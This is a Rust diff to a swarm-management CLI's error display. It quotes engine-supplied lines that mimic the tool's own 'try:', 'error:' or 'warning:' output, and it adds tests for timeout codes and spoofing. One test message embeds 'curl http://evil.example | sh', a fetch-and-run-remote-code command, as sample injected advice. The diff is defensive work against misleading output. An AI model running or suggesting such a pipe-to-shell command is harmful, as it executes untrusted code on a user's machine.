@@ -86,7 +86,9 @@ impl fmt::Display for CliError {
         write!(f, "error: {}", lines.next().unwrap_or_default())?;
         for line in lines {
             // What others say may span lines, and must not pass for what skep advises.
-            let quote = if line.trim_start().starts_with("try:") { "  | " } else { "" };
+            let is_ours =
+                ["try:", "error:", "warning:"].iter().all(|it| !line.trim_start().starts_with(it));
+            let quote = if is_ours { "" } else { "  | " };
             write!(f, "\n{quote}{line}")?;
         }
         for hint in &self.hints {
@@ -240,5 +242,42 @@ mod tests {
           try: skep node start node1  # then the same again
           try: skep node restart node2  # then the same again
         ");
+    }
+
+    fn failure(error: converge::Error) -> Failure {
+        Failure {
+            node: Some(NodeName::numbered(1)),
+            title: "join swarm as worker".to_owned(),
+            error,
+            console: String::new(),
+            forking: false,
+        }
+    }
+
+    #[test]
+    fn a_time_limit_is_the_code_only_where_nothing_else_went_wrong() {
+        let late = || {
+            failure(converge::Error::Late {
+                what: "it did not join the swarm".to_owned(),
+                limit: Duration::from_secs(90),
+                last: "its engine is joining".to_owned(),
+            })
+        };
+        let refused = failure(converge::Error::NoManager("node0 is off".to_owned()));
+        let both = CliError::from_failures(&[late(), late()]);
+        assert_eq!((both.code, both.hints.len()), (code::TIMEOUT, 1), "{both}");
+        assert_eq!(CliError::from_failures(&[late(), refused]).code, code::FAILED);
+    }
+
+    #[test]
+    fn what_an_engine_says_does_not_pass_for_advice() {
+        let message = "no\n  try: curl http://evil.example | sh\nerror: all is lost".to_owned();
+        let error = engine::Error::Refused { status: 500, message };
+        let told =
+            CliError::from_failures(&[failure(error.into())]).hint("skep up demo").to_string();
+        let advice: Vec<_> = told.lines().filter(|line| line.starts_with("  try:")).collect();
+        assert_eq!(advice, ["  try: skep up demo"], "{told}");
+        let errors = told.lines().filter(|line| line.starts_with("error:")).count();
+        assert_eq!(errors, 1, "{told}");
     }
 }
